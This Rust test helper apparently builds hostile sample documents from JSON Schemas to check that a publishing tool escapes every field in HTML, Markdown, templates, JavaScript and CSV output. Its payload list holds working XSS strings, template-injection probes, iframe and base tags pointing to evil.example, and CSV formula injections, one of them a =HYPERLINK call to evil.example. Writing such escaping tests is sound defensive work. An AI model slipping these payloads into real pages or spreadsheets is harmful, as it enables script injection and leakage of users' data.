//! Hostile documents generated from the format's JSON Schemas (`gongkai::record_schema` …):
//! every free-text string gets a payload carrying a unique marker (`gk0042`), every optional
//! is present (but an indicator's `kind` and `direction`, see below), every list has one
//! element, and every parsed string (one with an `enum`, a `pattern` or a `format`: amounts,
//! percentages, codes, ids) gets a valid value.

use serde_json::{Map, Value};

/// The hostile texts, rotated over the fields; `{m}` is replaced by the field's marker. They
/// aim at every context a text can land in: HTML text and attributes, `<title>`, Markdown,
/// Tera, XML/SVG, the search index's JavaScript, CSV cells and JSON.
pub(super) const PAYLOADS: [&str; 32] = [
    "<script>alert('{m}')</script>",
    "\"><img src=x onerror=alert('{m}')>",
    "</title><script>alert('{m}')</script>",
    "javascript:alert('{m}')",
    "<svg onload=alert('{m}')>",
    "</textarea><b>{m}</b>",
    "{{ 7*7 }}{m}",
    "{% raw %}{m}{% endraw %}",
    "]]>{m}<![CDATA[",
    "<!--{m}",
    "'{m}' onmouseover='alert(1)'",
    "\"{m}\" onfocus=\"alert(1)\" autofocus=\"",
    "&lt;script&gt;{m}&lt;/script&gt;",
    "=HYPERLINK(\"http://evil.example/?{m}\",\"点击\")",
    "\u{202e}{m}\u{202d}",
    // Control characters are refused at load (tests/cli/errors/hardening.rs): what remains
    // invisible or odd is still published, escaped.
    "\u{200b}\u{feff}{m}\u{fffd}\u{3000}",
    "</script><script>alert('{m}')</script>",
    "\u{2028}{m}\u{2029}",
    "+{m}+1",
    "-{m}-1",
    "@SUM({m})",
    "\t={m}",
    "{m}\\",
    "`${alert('{m}')}`",
    "<a href=\"javascript:alert('{m}')\">{m}</a>",
    "[点我](javascript:alert('{m}')) ![x](javascript:alert('{m}'))",
    "<iframe src=//evil.example/{m}></iframe>",
    "<style>*{display:none}</style>{m}",
    "<base href=//evil.example/>{m}",
    "<math><mi xlink:href=\"javascript:alert('{m}')\">x</mi></math>",
    "%3Cscript%3E{m}\n=1+1",
    "长",
];

/// Index of the long payload: its text is repeated so lines, cells and labels overflow.
const LONG: usize = 31;

/// Every field that was given a payload: `fields[n]` carries the marker `gk{n:04}`.
#[derive(Default)]
pub(super) struct Sweep {
    pub(super) fields: Vec<String>,
    /// Fields left out of the object being generated (see the array case of `node`).
    skip: Vec<&'static str>,
}

impl Sweep {
    /// The marker of field `n`.
    pub(super) fn marker(n: usize) -> String {
        format!("gk{n:04}")
    }

    /// A new payload for the field at `path`.
    pub(super) fn payload(&mut self, path: String) -> String {
        let n = self.fields.len();
        self.fields.push(path);
        let m = Sweep::marker(n);
        let p = n % PAYLOADS.len();
        if p == LONG {
            format!("{m}{}", PAYLOADS[LONG].repeat(3000))
        } else {
            PAYLOADS[p].replace("{m}", &m)
        }
    }

    /// A maximal instance of `schema` (a whole schema document with its `$defs`), its fields
    /// named `<file>:<path>`.
    pub(super) fn instance(&mut self, file: &str, schema: &Value) -> Value {
        self.node(schema, schema, format!("{file}:"))
    }

    fn node(&mut self, root: &Value, schema: &Value, path: String) -> Value {
        if let Some(r) = schema.get("$ref").and_then(Value::as_str) {
            let name = r.strip_prefix("#/$defs/").expect("a local $ref");
            return self.node(root, &root["$defs"][name], path);
        }
        if let Some(alts) = schema.get("anyOf").and_then(Value::as_array) {
            let alt = alts
                .iter()
                .find(|a| a.get("type") != Some(&Value::from("null")))
                .expect("a non-null alternative");
            return self.node(root, alt, path);
        }
        let types: Vec<&str> = match schema.get("type") {
            Some(Value::String(t)) => vec![t.as_str()],
            Some(Value::Array(ts)) => ts.iter().filter_map(Value::as_str).collect(),
            _ => panic!("{path}: a schema without a type: {schema}"),
        };
        if types.contains(&"object") && schema.get("properties").is_none() {
            // A map keyed by printed text (`by_class`: 类 name → amount, issue 17): one entry
            // whose key is the payload.
            let values = schema
                .get("additionalProperties")
                .unwrap_or_else(|| panic!("{path}: an object without properties or values"));
            let key = self.payload(format!("{path} (key)"));
            let value = self.node(root, values, format!("{path}.{key}"));
            return Value::Object(Map::from_iter([(key, value)]));
        }
        if types.contains(&"object") {
            let props = schema["properties"].as_object().expect("properties");
            // A row of a 科目 table (issue 17) may hold only its table's columns, and its 合计
            // row no code or name: the text fields are `code` and `name`, swept on the rows.
            let line_row = props.contains_key("fiscal") && props.contains_key("to_affiliated");
            let total_row = line_row && path.ends_with(".total");
            let row_field =
                |k: &str| !line_row || (matches!(k, "code" | "name") && !total_row) || k == "total";
            // An indicator's `kind`/`direction` override needs a target with a number (issue 16:
            // an override that cannot apply is an error), and the sweep's targets are payloads;
            // both are enums, not text, so leaving them out hides no text field.
            let needs_number =
                |k: &str| props.contains_key("target") && matches!(k, "kind" | "direction");
            let skip = self.skip.clone();
            // A unit has a `name` or, when its documents print none, a `label` (issue 16),
            // never both; the label lands where the name does, so the name's payload sweeps
            // the same places.
            let either = |k: &str| k == "label" && props.contains_key("name");
            let obj: Map<String, Value> = props
                .iter()
                .filter(|(k, _)| !needs_number(k) && !either(k) && row_field(k))
                .filter(|(k, _)| !(props.contains_key("nature") && skip.contains(&k.as_str())))
                .map(|(k, s)| {
                    let sep = if path.ends_with(':') { "" } else { "." };
                    (k.clone(), self.node(root, s, format!("{path}{sep}{k}")))
                })
                .collect();
            Value::Object(obj)
        } else if types.contains(&"array") {
            // An indicator types its target either as `target` or as the three columns
            // `nature`/`value`/`unit`, never both (issue 16): the first item has `target`, a
            // second one the columns, so every text field still carries a payload.
            let items = &schema["items"];
            let resolved = match items.get("$ref").and_then(Value::as_str) {
                Some(r) => &root["$defs"][r.strip_prefix("#/$defs/").expect("a local $ref")],
                None => items,
            };
            let props = resolved.get("properties").and_then(Value::as_object);
            if props.is_some_and(|p| p.contains_key("target") && p.contains_key("nature")) {
                self.skip = vec!["nature", "value", "unit"];
                let first = self.node(root, items, format!("{path}[0]"));
                self.skip = vec!["target"];
                let second = self.node(root, items, format!("{path}[1]"));
                self.skip.clear();
                Value::Array(vec![first, second])
            } else {
                Value::Array(vec![self.node(root, items, format!("{path}[0]"))])
            }
        } else if types.contains(&"string") {
            if let Some(values) = schema.get("enum").and_then(Value::as_array) {
                let value = values.iter().find(|v| !v.is_null()).expect("an enum value");
                return value.clone();
            }
            let parsed = ["pattern", "format", "const"]
                .iter()
                .any(|k| schema.get(k).is_some());
            if parsed {
                // A parsed string must say what a valid value looks like, or the sweep could
                // only feed it payloads and the build would fail.
                let example = schema.get("examples").and_then(|e| e.get(0));
                let example = example.cloned().unwrap_or_else(|| {
                    panic!(
                        "{path} is parsed (it has a pattern or format) but its schema gives no \
                         example: add `#[schemars(example = …)]` to it in src/load/raw.rs"
                    )
                });
                // Figures are written plainly, never quoted (the loader refuses a quoted
                // number): marked here, unquoted by `write_yaml`.
                let figure = matches!(
                    schema.get("format").and_then(Value::as_str),
                    Some("decimal" | "percentage" | "amount")
                );
                return match (figure, example.as_str()) {
                    (true, Some(text)) => Value::String(format!("{PLAIN}{text}")),
                    _ => example,
                };
            }
            Value::String(self.payload(path))
        } else if types.contains(&"boolean") {
            // A stated flag (`narrative.special_funds_nil`): set, so what it prints is swept.
            Value::Bool(true)
        } else if types.contains(&"integer") {
            schema.get("minimum").cloned().unwrap_or(Value::from(1))
        } else {
            panic!("{path}: a type the sweep does not fill: {schema}")
        }
    }
}

/// Narrative Markdown: payloads in a heading, a paragraph, raw HTML, a table and code, and
/// `javascript:` in a link, an image and a reference link, each with its own marker.
/// Leads a figure's text: `write_yaml` writes it as a plain scalar, without quotes.
pub(super) const PLAIN: char = '\u{1}';

pub(super) fn narrative(sweep: &mut Sweep, file: &str) -> String {
    let mut p = |part: &str| sweep.payload(format!("{file}:{part}"));
    let text = [
        p("heading"),
        p("paragraph"),
        p("raw html"),
        p("table head"),
        p("table cell"),
        p("code"),
        p("code block"),
    ];
    let mut js = |part: &str| {
        sweep.payload(format!("{file}:{part}"));
        format!(
            "javascript:alert('{}')",
            Sweep::marker(sweep.fields.len() - 1)
        )
    };
    let links = [js("link"), js("image"), js("reference link")];
    format!(
        "# {}\n\n{}\n\n<div onclick=\"alert(1)\">{}</div>\n\n| 表头 {} |\n|---|\n| {} |\n\n\
         `{}`\n\n```\n{}\n```\n\n[链接]({}) ![图]({}) [引用][r]\n\n[r]: {}\n",
        text[0], text[1], text[2], text[3], text[4], text[5], text[6], links[0], links[1], links[2],
    )
}
